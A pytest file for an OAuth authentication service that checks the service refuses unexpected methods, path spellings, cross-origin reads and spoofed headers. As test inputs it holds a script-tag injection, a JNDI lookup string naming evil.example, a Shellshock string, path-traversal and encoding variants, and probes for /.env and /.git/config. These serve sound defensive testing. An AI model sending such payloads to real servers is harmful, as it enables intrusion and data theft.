"""Which paths and methods there are, and that nothing else is (spec: GEN-07, GEN-11, GEN-12, ATK-64, ATK-99)."""

from collections.abc import Callable
from typing import Any

import pytest

from authsvc.web.errors import render_problem
from authsvc.web.middleware import UNMATCHED
from authsvc.web.routes import ROWS, Auth, Row
from tests.house_of import House, bearer
from tests.web.answers import check_equal, check_oauth_error, check_problem
from tests.web.raw import raw_call

EVERY_ROW = pytest.mark.parametrize("row", ROWS, ids=lambda row: f"{row.method} {row.path}")
METHODS = ("GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "CONNECT", "PROPFIND", "post", "FOO")


def allowed(row: Row) -> set[str]:
    methods = {each.method for each in ROWS if each.path == row.path}
    return methods | {"HEAD"} if "GET" in methods else methods


@EVERY_ROW
@pytest.mark.parametrize("method", METHODS)
async def test_another_method_is_refused_and_told_which_are_not(shared: House, row: Row, method: str) -> None:
    # GEN-07, ATK-26, ATK-87, ATK-99
    if method in allowed(row):
        return
    answer = await raw_call(shared, method, row.path)
    assert answer.headers["allow"] == ", ".join(sorted(allowed(row)))
    if method == "HEAD":
        assert (answer.status_code, answer.content) == (405, b"")
    elif row.errors is not render_problem:
        check_oauth_error(answer, 405, "invalid_request")
    else:
        check_problem(answer, 405, "method-not-allowed")


@EVERY_ROW
@pytest.mark.parametrize("header", ["x-http-method-override", "x-method-override", "x-http-method"])
async def test_a_header_changes_no_method(shared: House, row: Row, header: str) -> None:  # ATK-99
    other = next(method for method in ("POST", "GET", "PUT") if method not in allowed(row))
    answer = await shared.http.request(other, row.path, headers={header: row.method})
    assert answer.status_code == 405
    if row.method == "POST":
        answer = await shared.http.request(other, f"{row.path}?_method={row.method}")
        assert answer.status_code == 405


async def test_an_unknown_path_is_a_problem(shared: House) -> None:  # PRB-07
    for method in ("GET", "POST", "DELETE", "OPTIONS", "FOO"):
        problem = check_problem(await shared.http.request(method, "/nowhere"), 404, "not-found")
        assert "nowhere" not in str(problem)
    assert (await shared.http.head("/nowhere")).content == b""


SPELLINGS: dict[str, Callable[[str], str]] = {
    "a slash behind": lambda path: path + "/",
    "a slash in front": lambda path: "/" + path,
    "slashes doubled": lambda path: path.replace("/", "//"),
    "a line feed": lambda path: path + "%0A",
    "CRLF": lambda path: path + "%0D%0A",
    "NUL": lambda path: path + "%00",
    "a blank": lambda path: path + "%20",
    "an encoded slash": lambda path: path + "%2F",
    "an encoded question mark": lambda path: path + "%3Fx",
    "an encoded number sign": lambda path: path + "%23x",
    "encoded twice": lambda path: path[:-1] + f"%25{ord(path[-1]):x}",
    "a parameter": lambda path: path + ";x",
    "a dot": lambda path: path + "/.",
    "dots": lambda path: path + "/x/..",
    "encoded dots": lambda path: path + "/%2e%2e" + path,
    "dots in front": lambda path: "/x/..%2f" + path[1:],
    "a dot in front": lambda path: "/." + path,
    "a backslash": lambda path: path.replace("/", "%5C"),
    "upper case": lambda path: path.upper(),
    "title case": lambda path: path.title(),
    "a suffix": lambda path: path + ".json",
    "cut off": lambda path: path[:-1],
    "a letter with an accent": lambda path: path[:-1] + "%C3%A9",
    "a letter in full width": lambda path: path[:-1] + "%EF%BD%85",
}


@EVERY_ROW
@pytest.mark.parametrize("case", SPELLINGS)
async def test_another_spelling_of_a_path_is_nowhere(shared: House, row: Row, case: str) -> None:  # ATK-99, GEN-12
    answer = await raw_call(shared, row.method, SPELLINGS[case](row.path))
    check_problem(answer, 404, "not-found")
    assert "location" not in answer.headers


@pytest.mark.parametrize(
    "path",
    ["/", "/metrics", "/livez", "/readyz", "/healthz", "/startupz", "/debug", "/debug/pprof", "/docs", "/redoc",
     "/openapi.yaml", "/favicon.ico", "/robots.txt", "/.env", "/.git/config", "/admin", "/api/v1", "/api/v1/admin",
     "/api/v1/users/1", "/oauth2", "/oauth2/", "/static/x", "/server-status", "/actuator", "/api/v2/login"],
)  # fmt: skip
async def test_nothing_internal_is_here(shared: House, path: str) -> None:  # PRO-08, ATK-103
    for method in ("GET", "POST"):
        check_problem(await shared.http.request(method, path), 404, "not-found")


@EVERY_ROW
@pytest.mark.parametrize(
    "origin", ["https://evil.example", "null", "http://127.0.0.1:8000", "http://127.0.0.1:8000.evil"]
)
async def test_no_other_site_may_read_what_is_not_for_everybody(shared: House, row: Row, origin: str) -> None:
    # GEN-11, REV-10, ATK-64
    headers = {"origin": origin, "access-control-request-method": row.method}
    for answer in (
        await shared.http.options(row.path, headers=headers | {"access-control-request-headers": "authorization"}),
        await shared.http.request(row.method, row.path, headers=headers),
    ):
        told = {name for name in answer.headers if name.startswith("access-control-")}
        if row.method == "GET" and row.auth is Auth.PUBLIC and answer.status_code == 200:
            assert told == {"access-control-allow-origin"}
            assert answer.headers["access-control-allow-origin"] == "*"
        else:
            assert told == set()


@EVERY_ROW
async def test_every_answer_has_an_id_of_its_own_and_tells_nothing_of_what_is_behind_it(
    shared: House, row: Row
) -> None:
    # PRB-04, HLT-05, ATK-105
    answers = [await shared.http.request(row.method, row.path, headers={"x-request-id": "mine"}) for _ in range(3)]
    ids = {answer.headers["x-request-id"] for answer in answers}
    assert len(ids) == 3
    assert "mine" not in ids
    for answer in answers:
        assert answer.headers.keys().isdisjoint({"server", "x-powered-by", "via", "set-cookie", "x-xss-protection"})
        assert answer.headers["x-content-type-options"] == "nosniff"


async def test_strange_headers_change_nothing(shared: House) -> None:  # ATK-66, ATK-99
    client = await shared.client()
    token = await shared.token(client)
    form = {"token": token}

    async def ask(headers: dict[str, str]) -> Any:
        return await shared.http.post("/oauth2/introspect", data=form, auth=shared.basic(client), headers=headers)

    strange = {
        "a script": {"user-agent": "<script>alert(1)</script>"},
        "an expression": {"user-agent": "${jndi:ldap://evil.example}", "referer": "() { :; };"},
        "addresses": {"x-forwarded-for": "127.0.0.1", "x-real-ip": "::1", "forwarded": "for=127.0.0.1"},
        "another path": {"x-original-url": "/openapi.json", "x-rewrite-url": "/openapi.json"},
        "another user": {"x-remote-user": "admin", "remote-user": "admin", "x-forwarded-user": "admin"},
        "a cookie": {"cookie": "sid=1"},
        "a long one": {"x-long": "x" * 100_000},
        "a range": {"range": "bytes=0-1"},
        "conditions": {"if-none-match": "*", "if-match": "x", "if-modified-since": "Thu, 01 Jan 2026 00:00:00 GMT"},
    }
    check_equal({"plain": await ask({})} | {name: await ask(headers) for name, headers in strange.items()})


async def test_a_request_is_counted_under_its_route_and_never_under_its_path(shared: House) -> None:
    # PRO-04, PRO-05, ATK-104
    metrics: Any = shared.metrics
    for _ in range(2):
        for row in ROWS:
            for method in METHODS:
                await shared.http.request(method, row.path)
        for number in range(50):
            await shared.http.request(f"M{number}", f"/random/{number}")
            await shared.http.get(f"/random/{number}")
            await shared.http.get("/api/v1/me", headers=bearer(f"garbage{number}"))
        (family,) = metrics._request_duration.collect()
        series = {(s.labels["method"], s.labels["route"]) for s in family.samples if s.name.endswith("_count")}
        assert {route for _, route in series} <= {UNMATCHED, *(row.path for row in ROWS)}
        assert {method for method, _ in series} <= {*METHODS, "_OTHER"} - {
            "TRACE",
            "FOO",
            "post",
            "CONNECT",
            "PROPFIND",
        }
    assert metrics.requests_in_progress._value.get() == 0
